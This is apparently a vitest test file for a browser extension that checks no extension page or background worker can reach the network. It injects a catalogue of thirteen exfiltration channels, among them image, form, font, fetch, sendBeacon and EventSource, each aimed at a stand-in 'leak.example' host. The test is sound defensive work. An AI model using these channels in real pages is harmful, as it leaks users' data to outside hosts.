/**
 * Nothing leaves the browser, and it is the browser that enforces it: from every page of the extension every known way out is tried,
 * and not one request may come up. A page without a policy tries the same first, so that the trap is known to work.
 */
import { afterEach, describe, expect, it } from 'vitest';
import { tabOf } from '../../scripts/browsers/page';
import { until } from '../../scripts/browsers/poll';
import type { Tab } from '../stage/visitor';
import { BROWSERS, launch } from './browsers';

const PAGES = ['popup.html', 'sidepanel.html', 'workbench.html'];

/** Every way out has its own host, so that a request tells which way it took. */
const WAYS = {
  image: `new Image().src = address;`,
  frame: `add('iframe', { src: address });`,
  form: `const form = add('form', { action: address, method: 'post', target: add('iframe', { name: 'hole' }).name }); form.submit();`,
  stylesheet: `add('link', { rel: 'stylesheet', href: address });`,
  'style-image': `const styled = add('div', {}); styled.style.backgroundImage = 'url(' + address + ')'; styled.style.height = '9px';`,
  font: `new FontFace('leak', 'url(' + address + ')').load().catch(() => undefined);`,
  media: `add('video', { src: address, preload: 'auto' }).load();`,
  object: `add('object', { data: address });`,
  script: `add('script', { src: address });`,
  fetch: `fetch(address, { mode: 'no-cors' }).catch(() => undefined);`,
  request: `const request = new XMLHttpRequest(); request.open('GET', address); request.send();`,
  beacon: `navigator.sendBeacon(address, 'x');`,
  events: `new EventSource(address);`,
} as const;
const hostOf = (way: string) => `${way}.leak.example`;

/** Tries all ways. A way that throws is shut as well. */
const TRY_ALL = `
  const add = (name, properties) => document.body.appendChild(Object.assign(document.createElement(name), properties));
  const shut = [];
  ${Object.entries(WAYS)
    .map(([way, code]) => `try { const address = 'https://${hostOf(way)}/'; ${code} } catch (error) { shut.push('${way}'); }`)
    .join('\n  ')}
  document.body.offsetHeight;
  return shut;`;

/**
 * Asks for a host ahead of need. A browser does so when nothing else loads, one address after the other: the others were tried when
 * this one was asked for.
 */
const prefetch = (host: string) =>
  `document.head.appendChild(Object.assign(document.createElement('link'), { rel: 'prefetch', href: 'https://${host}/' }));`;

let close: (() => Promise<void>) | undefined;
afterEach(async () => {
  await close?.();
  close = undefined;
});

/** Plays one page without a policy, and remembers every host that was asked for. */
class Trap {
  asked: string[] = [];
  answer(address: string) {
    const { hostname } = new URL(address);
    this.asked.push(hostname);
    if (hostname !== 'control.example') return null;
    return { status: 200, headers: { 'content-type': 'text/html' }, body: '<!doctype html><body>' };
  }
  get caught(): string[] {
    return this.asked.filter((host) => host.endsWith('.leak.example') && host !== LAST);
  }
}
const CONTROL = 'https://control.example/';
/** Once this host has been asked for, everything asked for before has come up as well. */
const LAST = 'last.leak.example';
const ASK_LAST = `await fetch('https://${LAST}/').catch(() => undefined)`;

async function allCaught(trap: Trap): Promise<void> {
  await until('every way out of a page without a policy', () => {
    const shut = Object.keys(WAYS).filter((way) => !trap.caught.includes(hostOf(way)));
    if (shut.length > 0) throw new Error(`not asked for: ${shut.join(', ')}`);
    return true;
  });
}

/** Nothing came up before a request that the control page makes after all others, in the way given. */
async function nothingCaught(trap: Trap, control: Pick<Tab, 'run'>, from: string, ask = ASK_LAST): Promise<void> {
  await control.run(ask);
  await until('the last request', () => trap.asked.includes(LAST));
  expect(trap.caught, from).toEqual([]);
  trap.asked = [];
}

describe.each(BROWSERS)('in %s', (name) => {
  it('no page of the extension reaches the network', async () => {
    const trap = new Trap();
    const browser = await launch(name, { site: trap });
    close = () => browser.close();

    const control = tabOf(await browser.newPage());
    await control.goto(CONTROL);
    await control.run(TRY_ALL);
    await allCaught(trap);
    // Left behind, so that its event source stops trying again.
    await control.goto(CONTROL);
    trap.asked = [];

    for (const file of PAGES) {
      const page = tabOf(await browser.open(file));
      await page.run(TRY_ALL);
      await nothingCaught(trap, control, file);
      await page.page.close();

      const quiet = tabOf(await browser.open(file));
      await quiet.run(prefetch('prefetch.leak.example'));
      await control.goto(CONTROL);
      await nothingCaught(trap, control, file, prefetch(LAST));
      await quiet.page.close();
    }

    // The background has fetch and nothing else.
    expect(await browser.fetchFromBackground('https://worker.leak.example/')).toBe('refused');
    await nothingCaught(trap, control, 'background');
  });
});
